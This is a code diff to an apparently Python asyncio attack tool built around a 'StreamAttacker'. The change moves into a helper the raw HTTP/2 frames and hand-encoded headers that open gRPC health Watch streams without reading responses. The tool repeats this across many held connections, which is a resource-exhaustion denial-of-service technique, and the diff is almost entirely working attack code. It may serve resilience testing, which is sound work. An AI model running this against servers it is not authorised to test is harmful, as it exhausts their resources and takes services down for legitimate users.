@@ -83,7 +83,6 @@ async def unread_streams(attacker: StreamAttacker) -> None:
     """Opens streams, each on a connection of its own, and takes nothing of what comes."""
     host, _, port = attacker.address.rpartition(":")
     kept: list[asyncio.StreamWriter] = []
-    path = "/grpc.health.v1.Health/Watch"
     while attacker.going_on:
         if len(kept) >= UNREAD:
             await asyncio.sleep(0.1)
@@ -98,14 +97,19 @@ async def unread_streams(attacker: StreamAttacker) -> None:
             continue
         kept.append(writer)
         attacker.outcomes["streams"] += 1
-        headers = b"\x83\x86\x04" + text(path) + b"\x01" + text(attacker.address)
-        headers += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
-        for name, value in attacker.metadata:
-            headers += b"\x00" + text(name) + text(value)
-        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, _WINDOW))
-        writer.write(frame(1, 4, 1, headers) + frame(0, 1, 1, bytes(5)))
+        writer.write(unread_watch(attacker.address, attacker.metadata))
         with contextlib.suppress(OSError):
             await writer.drain()
+
+
+def unread_watch(authority: str, metadata: Metadata = ()) -> bytes:
+    """What opens an HTTP/2 connection and watches health by it, without room for a response."""
+    headers = b"\x83\x86\x04" + text("/grpc.health.v1.Health/Watch") + b"\x01" + text(authority)
+    headers += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
+    for name, value in metadata:
+        headers += b"\x00" + text(name) + text(value)
+    opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, _WINDOW)
+    return opening + frame(1, 4, 1, headers) + frame(0, 1, 1, bytes(5))
 
 
 async def reflections(attacker: StreamAttacker) -> None:
